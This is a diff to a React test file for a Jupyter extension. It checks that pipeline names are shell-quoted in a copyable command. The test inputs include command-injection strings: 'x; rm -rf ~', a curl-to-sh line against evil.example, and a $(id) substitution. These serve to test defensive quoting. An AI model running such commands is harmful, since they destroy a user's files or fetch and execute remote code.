@@ -7,6 +7,7 @@ import {
   RunProvenanceSchema,
   type Reproduction
 } from '../../src/provenance/api';
+import { shellWord } from '../../src/core/shellWord';
 import { ProvenanceSection } from '../../src/provenance/section';
 
 (
@@ -292,6 +293,39 @@ describe('ProvenanceSection', () => {
     act(() => {
       root.unmount();
     });
+  });
+
+  it('quotes a pipeline name in the command to copy', async () => {
+    const api = fakeApi(
+      ReproductionSchema.parse({ id: 'p1', run_id: 'r1', status: 'running' })
+    );
+    const host = document.createElement('div');
+    const root = createRoot(host);
+    await act(async () => {
+      root.render(
+        <ProvenanceSection
+          api={api.api}
+          runId="r1"
+          trans={trans}
+          kernelId={null}
+          pipeline="x; rm -rf ~"
+          onShowRun={() => undefined}
+          confirmReproduce={() => Promise.resolve(true)}
+        />
+      );
+      await Promise.resolve();
+    });
+    expect(text(host, '.jp-nbcraft-provenance-reproduce')).toMatch(
+      /jupyter nbcraft run --pipeline 'x; rm -rf ~'$/
+    );
+    act(() => {
+      root.unmount();
+    });
+    expect(shellWord('train.v2-nightly')).toBe('train.v2-nightly');
+    expect(shellWord('x; curl evil.example | sh')).toBe(
+      "'x; curl evil.example | sh'"
+    );
+    expect(shellWord("it's $(id)")).toBe("'it'\\''s $(id)'");
   });
 
   it('shows a route error plainly', async () => {
